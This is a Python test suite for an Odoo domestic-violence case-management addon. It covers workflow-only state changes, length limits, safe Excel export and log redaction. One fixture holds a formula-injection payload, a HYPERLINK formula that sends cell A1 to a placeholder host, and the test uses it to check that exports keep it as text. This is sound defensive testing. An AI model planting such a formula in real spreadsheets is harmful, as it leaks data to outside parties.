"""Inputs the load suite (scripts/load) sends through JSON-RPC that the addon
used to accept: states written past the workflow, over-long police
references and names, formulas in the Excel export of a list."""

import io
import json
import logging

import openpyxl

from odoo import http
from odoo.exceptions import ValidationError
from odoo.tests import HttpCase, freeze_time, tagged

from .common import DvCommon, ReferralCommon


class TestStatesOnlyThroughTheWorkflow(ReferralCommon):
    def test_case_state_written_directly(self):
        case = self._create_case().with_user(self.caseworker)
        with self.assertRaises(ValidationError):
            case.write({"state": "closed"})
        self.assertEqual(case.state, "new")
        case.action_start()
        with self.assertRaises(ValidationError):
            case.write({"state": "new"})
        case._close(self.env.ref("dv_case_management.closure_reason_completed"), "")
        with self.assertRaises(ValidationError):
            case.write({"closure_reason_id": False})
        case.action_reopen()
        self.assertEqual(case.state, "in_progress")

    @freeze_time("2026-12-28 09:00:00")
    def test_referral_state_written_directly(self):
        referral = self._inbound().with_user(self.office_worker)
        with self.assertRaises(ValidationError):
            referral.write({"state": "accepted"})
        referral.action_mark_declined()
        with self.assertRaises(ValidationError):
            referral.write({"state": "received"})
        self.assertEqual(referral.state, "declined")


@freeze_time("2026-12-28 09:00:00")
class TestOverlongText(ReferralCommon):
    def test_police_reference_is_short(self):
        with self.assertRaises(ValidationError) as error:
            self._inbound(police_reference="X" * 65)
        self.assertIn("64", str(error.exception))
        referral = self._inbound(police_reference="P" * 64)
        with self.assertRaises(ValidationError):
            self.env["dv.incident"].create(
                {"case_id": referral.case_id.id, "police_reference": "Z" * 3000}
            )

    def test_names_are_limited(self):
        case = self._create_case()
        with self.assertRaises(ValidationError):
            self.env["dv.person"].create(
                {"case_id": case.id, "role": "other", "name": "N" * 201}
            )
        with self.assertRaises(ValidationError):
            case.victim_id.write({"aliases": "A, " * 400})


@tagged("post_install", "-at_install")
class TestExportKeepsTextAsText(HttpCase, DvCommon):
    def test_formula_in_list_export_stays_text(self):
        formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")'
        agency = self.env["dv.agency"].create(
            {
                "name": formula,
                "agency_type_id": self.type_counselling.id,
                "company_id": False,
            }
        )
        self.authenticate("admin", "admin")
        params = {
            "model": "dv.agency",
            "fields": [{"name": "name", "label": "Name"}],
            "ids": agency.ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
        }
        response = self.url_open(
            "/web/export/xlsx",
            data={
                "data": json.dumps(params),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cell = sheet["A2"]
        self.assertEqual(cell.value, formula)
        self.assertEqual(cell.data_type, "s", "text, never a formula")

    def _export(self, model, ids, domain=None):
        params = {
            "model": model,
            "fields": [{"name": "name", "label": "Name"}],
            "ids": ids,
            "domain": domain or [],
            "groupby": [],
            "import_compat": False,
        }
        return self.url_open(
            "/web/export/xlsx",
            data={
                "data": json.dumps(params),
                "csrf_token": http.Request.csrf_token(self),
            },
        )

    def test_other_models_export_as_odoo_makes_it(self):
        """Nothing global: only this addon's exports are changed."""
        partner = self.env["res.partner"].create({"name": "=1+1"})
        self.authenticate("admin", "admin")
        response = self._export("res.partner", partner.ids)
        cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["A2"]
        self.assertEqual(cell.data_type, "f", "Odoo's own behaviour, untouched")

    def test_exports_of_cases_log_no_search(self):
        """Odoo logs an export with its domain, which may hold a searched
        name; the addon's exports are logged without it."""
        case = self._create_case()
        seen = []

        class Collect(logging.Handler):
            def emit(self, record):
                seen.append(record.getMessage())

        handler = Collect(level=logging.INFO)
        web_logger = logging.getLogger("odoo.addons.web.controllers.export")
        web_logger.addHandler(handler)
        level = web_logger.level
        web_logger.setLevel(logging.INFO)
        try:
            self.authenticate("admin", "admin")
            self._export("dv.case", [], [("person_ids.name", "ilike", "Vera")])
            self._export("res.partner", [], [("name", "ilike", "Findme")])
        finally:
            web_logger.removeHandler(handler)
            web_logger.setLevel(level)
        self.assertFalse([line for line in seen if "Vera" in line], seen)
        self.assertTrue([line for line in seen if "Findme" in line], seen)
        self.assertTrue(case)
